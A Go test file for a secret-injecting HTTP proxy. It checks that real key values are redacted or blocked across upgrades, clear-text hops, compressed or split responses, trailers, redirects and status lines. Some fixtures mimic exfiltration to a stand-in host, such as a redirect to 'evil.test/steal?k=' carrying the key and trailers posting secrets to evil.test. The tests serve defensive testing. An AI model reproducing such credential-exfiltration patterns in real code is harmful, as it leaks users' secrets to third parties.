package proxy

import (
	"bufio"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"crypto/tls"
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httptrace"
	"net/textproto"
	"strings"
	"testing"
	"time"
)

// TestSecretUpgradeEchoCut: a bound host gets the real value in an
// upgrade request's header and echoes it in the upgraded stream, whole
// and split across two writes; the connection is cut before the value
// reaches the client, and the log names the secret.
func TestSecretUpgradeEchoCut(t *testing.T) {
	t.Parallel()
	for _, split := range []bool{false, true} {
		f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
			c, brw, _ := http.NewResponseController(w).Hijack()
			defer c.Close()
			io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
			brw.ReadString('\n') // the client's first frame
			got := r.Header.Get("X-Key")
			if !split {
				io.WriteString(c, "you sent "+got+"\n")
			} else {
				io.WriteString(c, "you sent "+got[:len(got)/2])
				time.Sleep(100 * time.Millisecond)
				io.WriteString(c, got[len(got)/2:]+"\n")
			}
			time.Sleep(200 * time.Millisecond)
		})
		req, _ := http.NewRequest("GET", "https://api.test/ws", nil)
		req.Header.Set("Connection", "Upgrade")
		req.Header.Set("Upgrade", "echo")
		req.Header.Set("X-Key", phKey)
		resp, err := f.c.Do(req)
		if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
			t.Fatalf("upgrade: %v %v", resp, err)
		}
		rw := resp.Body.(io.ReadWriteCloser)
		io.WriteString(rw, "hello\n")
		got, _ := io.ReadAll(rw)
		rw.Close()
		if f.api.last == nil || f.api.last.Header.Get("X-Key") != valKey {
			t.Fatalf("control: the upstream did not get the real value in the upgrade request")
		}
		if bytes.Contains(got, []byte(valKey)) || bytes.Contains(got, []byte(valKey[len(valKey)/2:])) {
			t.Errorf("split %v: the real value came back through the upgraded connection: %q", split, got)
		}
		e := f.e.entry(t, func(x Entry) bool { return x.Path == "/ws" })
		if e.Verdict != "deny" || e.Rule != "secret API_KEY" || !strings.Contains(e.Reason, "real value of API_KEY") {
			t.Errorf("split %v: log entry %+v", split, e)
		}
		noValues(t, f.e)
	}
}

// nonLoopbackIPv4 is an IPv4 address of this machine that is not a
// loopback one.
func nonLoopbackIPv4(t *testing.T) string {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	t.Fatalf("this machine has no non-loopback IPv4 address to test clear text against")
	return ""
}

// gotValue is "value" when r carries the real value in X-Key, else
// "placeholder".
func gotValue(r *http.Request) string {
	if r.Header.Get("X-Key") == valKey {
		return "value"
	}
	return "placeholder"
}

// TestSecretCleartextNotInjected: a placeholder in a plain HTTP request
// to its bound host, when the host is dialled at an address off the
// loopback, is refused: injected, the value would cross the network in
// clear text. The same request over TLS, or in clear text to a bound
// name mapped to a loopback server, gets the value.
func TestSecretCleartextNotInjected(t *testing.T) {
	t.Parallel()
	ip := nonLoopbackIPv4(t)
	wire := &upstream{}
	wire.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		wire.hits.Add(1)
		io.WriteString(w, "wire "+gotValue(r))
	}))
	l, err := net.Listen("tcp", ip+":0")
	if err != nil {
		t.Fatal(err)
	}
	wire.Listener.Close()
	wire.Listener = l
	wire.Start()
	t.Cleanup(wire.Close)
	tlsUp := memCA(t)
	api := newUpstream(t, tlsUp, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "tls "+gotValue(r)) })
	local := newUpstream(t, nil, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "local "+gotValue(r)) })
	e := newEnv(t, Config{
		Rules: Rules{
			Allow: []string{"wire.test", "tls.test", "local.test"},
			Hosts: map[string]string{"wire.test": wire.addr(), "tls.test": api.addr(), "local.test": local.addr()},
		},
		Upstream: &tls.Config{RootCAs: pool(tlsUp)},
		Secrets:  []Secret{{Name: "API_KEY", Placeholder: phKey, Value: valKey, Hosts: []string{"wire.test", "tls.test", "local.test"}, Inject: everywhere}},
	})
	c := e.client()
	for _, tc := range []struct {
		url, want string
		status    int
	}{
		{"http://wire.test/h", "", http.StatusForbidden},
		{"http://wire.test/q?k=" + phKey, "", http.StatusForbidden},
		{"https://tls.test/h", "tls value", 200},
		{"http://local.test/h", "local value", 200},
	} {
		req, _ := http.NewRequest("GET", tc.url, nil)
		if !strings.Contains(tc.url, "?") {
			req.Header.Set("X-Key", phKey)
		}
		resp, body := do(t, c, req)
		if resp.StatusCode != tc.status || tc.want != "" && body != tc.want {
			t.Errorf("%s: got %d %q, want %d %q", tc.url, resp.StatusCode, body, tc.status, tc.want)
		}
		if tc.status == http.StatusForbidden && !strings.Contains(body, "clear text") {
			t.Errorf("%s: the refusal does not say why: %q", tc.url, body)
		}
	}
	// Plain HTTP inside a CONNECT tunnel is clear text on the wire too.
	_, _, conn, br := raw(t, e.httpAddr, "CONNECT wire.test:80 HTTP/1.1\r\nHost: wire.test:80\r\n\r\n")
	io.WriteString(conn, "GET /tunnel HTTP/1.1\r\nHost: wire.test\r\nX-Key: "+phKey+"\r\n\r\n")
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != http.StatusForbidden {
		t.Errorf("plain HTTP in a tunnel: got %v, %v; want 403", resp, err)
	}
	if n := wire.hits.Load(); n != 0 {
		t.Errorf("the clear-text server received %d requests", n)
	}
	noValues(t, e)
}

// TestSecretUnredactableResponse: a bound host that echoes the value in
// a content coding the proxy cannot decode (sent although the request
// did not ask for it), or in a range of a gzip stream, is refused with a
// 502; a body labelled gzip that is not gzip is redacted as it is.
func TestSecretUnredactableResponse(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		key := r.Header.Get("X-Key")
		switch r.URL.Path {
		case "/deflate":
			var b bytes.Buffer
			zw, _ := flate.NewWriter(&b, flate.BestSpeed)
			io.WriteString(zw, "key "+key)
			zw.Close()
			w.Header().Set("Content-Encoding", "deflate")
			w.Write(b.Bytes())
		case "/br":
			w.Header().Set("Content-Encoding", "br")
			io.WriteString(w, "key "+key)
		case "/chain":
			var b bytes.Buffer
			zw := gzip.NewWriter(&b)
			io.WriteString(zw, "key "+key)
			zw.Close()
			w.Header().Set("Content-Encoding", "gzip, identity")
			w.Write(b.Bytes())
		case "/range":
			var b bytes.Buffer
			zw := gzip.NewWriter(&b)
			io.WriteString(zw, "key "+key)
			zw.Close()
			w.Header().Set("Content-Encoding", "gzip")
			w.Header().Set("Content-Range", "bytes 0-9/99")
			w.WriteHeader(http.StatusPartialContent)
			w.Write(b.Bytes()[:10])
		case "/fake-gzip":
			w.Header().Set("Content-Encoding", "gzip")
			io.WriteString(w, "key "+key)
		}
	})
	// A transport that never decodes: the client sees the bytes the
	// proxy sends.
	c := &http.Client{Transport: &http.Transport{Proxy: f.c.Transport.(*http.Transport).Proxy,
		TLSClientConfig: f.c.Transport.(*http.Transport).TLSClientConfig, DisableCompression: true}}
	for _, path := range []string{"/deflate", "/br", "/chain", "/range"} {
		req, _ := http.NewRequest("GET", "https://api.test"+path, nil)
		req.Header.Set("X-Key", phKey)
		resp, body := do(t, c, req)
		if resp.StatusCode != http.StatusBadGateway || !strings.Contains(body, "cannot be checked for secrets") {
			t.Errorf("%s: got %d %q, want 502", path, resp.StatusCode, body)
		}
		if f.api.last.Header.Get("X-Key") != valKey {
			t.Errorf("%s: control: the upstream did not get the value", path)
		}
	}
	req, _ := http.NewRequest("GET", "https://api.test/fake-gzip", nil)
	req.Header.Set("X-Key", phKey)
	resp, body := do(t, c, req)
	if resp.StatusCode != 200 || body != "key "+phKey {
		t.Errorf("/fake-gzip: got %d %q, want the placeholder", resp.StatusCode, body)
	}
	noValues(t, f.e)
}

// TestSecretResponseSplitEverywhere: a value echoed in a chunked
// response whose chunks split it at every offset is redacted whole.
func TestSecretResponseSplitEverywhere(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		key := r.Header.Get("X-Key")
		for i := 0; i <= len(key); i++ {
			io.WriteString(w, "<"+key[:i])
			w.(http.Flusher).Flush()
			io.WriteString(w, key[i:]+">")
			w.(http.Flusher).Flush()
		}
	})
	req, _ := http.NewRequest("GET", "https://api.test/split", nil)
	req.Header.Set("X-Key", phKey)
	resp, err := f.c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var got strings.Builder
	br := bufio.NewReader(resp.Body)
	io.Copy(&got, br)
	resp.Body.Close()
	want := strings.Repeat("<"+phKey+">", len(valKey)+1)
	if got.String() != want {
		t.Errorf("got %q\nwant %q", got.String(), want)
	}
}

// trailerBody is a request body that sets its request's trailer field
// just before its end, as a client computing a checksum does.
type trailerBody struct {
	r     io.Reader
	req   *http.Request
	name  string
	value string
}

func (b *trailerBody) Read(p []byte) (int, error) {
	n, err := b.r.Read(p)
	if err == io.EOF {
		b.req.Trailer.Set(b.name, b.value)
	}
	return n, err
}

// TestSecretStreamedBodyTrailer: a real value, or a placeholder toward a
// host it is not bound to, in the trailer after a body the proxy streams
// (binary, gzip-encoded, or textual and larger than it rewrites whole)
// is refused; the upstream never receives the trailer.
func TestSecretStreamedBodyTrailer(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	io.WriteString(zw, "compressed")
	zw.Close()
	big := strings.Repeat("x", maxSecretBody+10)
	for _, c := range []struct{ name, ctype, encoding, body, trailer string }{
		{"binary-value", "application/octet-stream", "", "\x00\x01binary", valKey},
		{"binary-placeholder", "application/octet-stream", "", "\x00\x01binary", phKey},
		{"gzip-value", "text/plain", "gzip", gz.String(), valKey},
		{"big-text-value", "text/plain", "", big, valKey},
	} {
		req, _ := http.NewRequest("POST", "https://evil.test/"+c.name, nil)
		req.Body = io.NopCloser(&trailerBody{r: strings.NewReader(c.body), req: req, name: "X-Sum", value: c.trailer})
		req.ContentLength = -1
		req.Trailer = http.Header{"X-Sum": nil}
		req.Header.Set("Content-Type", c.ctype)
		if c.encoding != "" {
			req.Header.Set("Content-Encoding", c.encoding)
		}
		resp, err := f.c.Do(req)
		if err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusForbidden {
				t.Errorf("%s: got %d, want 403", c.name, resp.StatusCode)
			}
		}
		if got := f.evil.seen(); strings.Contains(got, valKey) || strings.Contains(got, phKey) {
			t.Errorf("%s: the upstream received the trailer:\n%.300s", c.name, got)
		}
	}
	noValues(t, f.e)
}

// TestSecretUpgradeNoCompression: an upgrade request reaches its upstream
// with no WebSocket extension offered (permessage-deflate would hide an
// echoed value in compressed frames), and an upstream that takes one up
// anyway is refused.
func TestSecretUpgradeNoCompression(t *testing.T) {
	t.Parallel()
	offered := make(chan string, 1)
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		offered <- r.Header.Get("Sec-Websocket-Extensions")
		c, _, _ := http.NewResponseController(w).Hijack()
		defer c.Close()
		io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
		time.Sleep(100 * time.Millisecond)
	})
	req, _ := http.NewRequest("GET", "https://api.test/ws", nil)
	req.Header.Set("Connection", "Upgrade")
	req.Header.Set("Upgrade", "websocket")
	req.Header.Set("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits")
	req.Header.Set("X-Key", phKey)
	resp, err := f.c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if got := <-offered; got != "" {
		t.Errorf("the upstream was offered %q", got)
	}
	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(string(body), "cannot be checked for secrets") {
		t.Errorf("an upstream taking up an extension: got %d %q, want 502", resp.StatusCode, body)
	}
}

// TestSecretRedirectElsewhere: a bound host that redirects to another
// host with the value it received in the Location is redacted, and a
// client that follows the redirect with the placeholder is refused at
// the other host: the value never goes there.
func TestSecretRedirectElsewhere(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "https://evil.test/steal?k="+r.Header.Get("X-Key"), http.StatusFound)
			return
		}
		io.WriteString(w, "ok")
	})
	noFollow := *f.c
	noFollow.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	req, _ := http.NewRequest("GET", "https://api.test/redirect", nil)
	req.Header.Set("X-Key", phKey)
	resp, _ := do(t, &noFollow, req)
	if loc := resp.Header.Get("Location"); resp.StatusCode != http.StatusFound || strings.Contains(loc, "real") || !strings.Contains(loc, phKey) {
		t.Errorf("the redirect reached the client as %d Location %q; want the placeholder", resp.StatusCode, loc)
	}
	req, _ = http.NewRequest("GET", "https://api.test/redirect", nil)
	req.Header.Set("X-Key", phKey)
	resp, _ = do(t, f.c, req) // Go's client follows it, X-Key and all
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("following the redirect: got %d, want 403 at evil.test", resp.StatusCode)
	}
	if got := f.evil.seen(); strings.Contains(got, valKey) || strings.Contains(got, "real") {
		t.Errorf("evil.test received the value:\n%s", got)
	}
	noValues(t, f.e)
}

// TestSecretResponseMarkupEscaped: a value with markup characters (a
// password) echoed by a bound host in an HTML or XML page, written with
// entities, is redacted like the raw value.
func TestSecretResponseMarkupEscaped(t *testing.T) {
	t.Parallel()
	const val = `p&ss<w>"rd'0042`
	const ph = "jail-secret-DB_PASSWORD-m4rkup00"
	up := newUpstream(t, nil, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<p>"+html.EscapeString(r.Header.Get("X-Key"))+"</p><x v='"+string(xmlEscape(r.Header.Get("X-Key")))+"'/>")
	})
	e := newEnv(t, Config{
		Rules:   Rules{Allow: []string{"db.test"}, Hosts: map[string]string{"db.test": up.addr()}},
		Secrets: []Secret{{Name: "DB_PASSWORD", Placeholder: ph, Value: val, Hosts: []string{"db.test"}}},
	})
	req, _ := http.NewRequest("GET", "http://db.test/page", nil)
	req.Header.Set("X-Key", ph)
	_, body := do(t, e.client(), req)
	if body != "<p>"+ph+"</p><x v='"+ph+"'/>" {
		t.Errorf("the page reached the client as %q", body)
	}
}

// TestSecretInformationalResponse: a value a bound host echoes in a 1xx
// response's header fields (103 Early Hints) never reaches the client:
// the proxy passes on only the final response, redacted.
func TestSecretInformationalResponse(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Link", "<https://cdn.test/"+r.Header.Get("X-Key")+">; rel=preload")
		w.WriteHeader(http.StatusEarlyHints)
		io.WriteString(w, "final "+r.Header.Get("X-Key"))
	})
	var early []string
	trace := &httptrace.ClientTrace{Got1xxResponse: func(code int, h textproto.MIMEHeader) error {
		early = append(early, fmt.Sprint(code, h))
		return nil
	}}
	req, _ := http.NewRequest("GET", "https://api.test/hints", nil)
	req = req.WithContext(httptrace.WithClientTrace(req.Context(), trace))
	req.Header.Set("X-Key", phKey)
	resp, body := do(t, f.c, req)
	if f.api.last.Header.Get("X-Key") != valKey {
		t.Fatalf("control: the upstream did not get the value")
	}
	for _, s := range append(early, body, fmt.Sprint(resp.Header)) {
		if strings.Contains(s, valKey) {
			t.Errorf("the value reached the client: %q", s)
		}
	}
	if body != "final "+phKey {
		t.Errorf("body %q", body)
	}
}

// TestSecretReasonPhrase: a value a bound host writes in its status
// line's reason phrase, which the proxy passes on, is redacted.
func TestSecretReasonPhrase(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		c, _, _ := http.NewResponseController(w).Hijack()
		defer c.Close()
		io.WriteString(c, "HTTP/1.1 401 Bad key "+r.Header.Get("X-Key")+"\r\nContent-Length: 2\r\nConnection: close\r\n\r\nno")
	})
	_, _, conn, br := raw(t, f.e.httpAddr, "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
	cfg := f.c.Transport.(*http.Transport).TLSClientConfig.Clone()
	cfg.ServerName = "api.test"
	tc := tls.Client(&bufConn{Conn: conn, r: br}, cfg)
	io.WriteString(tc, "GET /reason HTTP/1.1\r\nHost: api.test\r\nX-Key: "+phKey+"\r\n\r\n")
	line, err := bufio.NewReader(tc).ReadString('\n')
	if err != nil || strings.Contains(line, valKey) || !strings.Contains(line, phKey) {
		t.Errorf("the status line reached the client as %q (%v); want the placeholder in it", line, err)
	}
}

// bufConn reads what its reader has buffered before the connection.
type bufConn struct {
	net.Conn
	r *bufio.Reader
}

func (c *bufConn) Read(p []byte) (int, error) { return c.r.Read(p) }
